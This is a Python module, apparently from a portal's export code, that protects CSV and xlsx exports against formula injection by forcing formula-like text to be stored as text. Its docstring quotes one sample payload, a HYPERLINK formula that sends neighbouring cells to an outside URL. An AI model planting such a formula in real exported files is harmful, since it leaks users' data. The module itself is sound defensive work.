"""Every spreadsheet and CSV the portal writes goes through here, so no cell can run as a formula.

Formula injection ("CSV injection"): a cell whose text begins with = + - @ — or a tab or carriage return,
which some programs skip before looking — is evaluated when the file is opened in Excel, WPS or
LibreOffice. A document title such as `=HYPERLINK("http://…?"&A2, "点击")` would become a live link
carrying the neighbouring cells away. Citizens and staff type the texts we export, so every text cell is
written as text:

- CSV (`safe_cell`, `csv_row`): such a text gets a leading apostrophe, which spreadsheet programs show as
  a text marker and never evaluate (OWASP's advice); numbers and dates are left alone.
- xlsx (`xlsx_cell`, `append_row`): openpyxl would store a text beginning with "=" as a formula; here it
  is stored as a text cell with the quote-prefix style, so it stays text even when edited. The text
  itself is unchanged, so reading the workbook back (catalog re-import) gives the exact text.
"""

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def safe_cell(value):
    """A CSV field: a formula-like text prefixed with an apostrophe; anything else unchanged."""
    return "'" + value if is_formula_like(value) else value


def csv_row(values) -> list:
    return [safe_cell(value) for value in values]


def xlsx_cell(sheet, value):
    """A cell for `sheet.append` (normal or write-only workbook) that holds `value`, texts always as text."""
    from openpyxl.cell.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)
    if is_formula_like(value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def append_row(sheet, values) -> None:
    """`sheet.append(values)` with every formula-like text written as text."""
    sheet.append([xlsx_cell(sheet, value) for value in values])


def set_cell(sheet, row: int, column: int, value):
    """`sheet.cell(row, column, value)` with a formula-like text written as text; returns the cell."""
    cell = sheet.cell(row, column)
    cell.value = value
    if is_formula_like(value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell
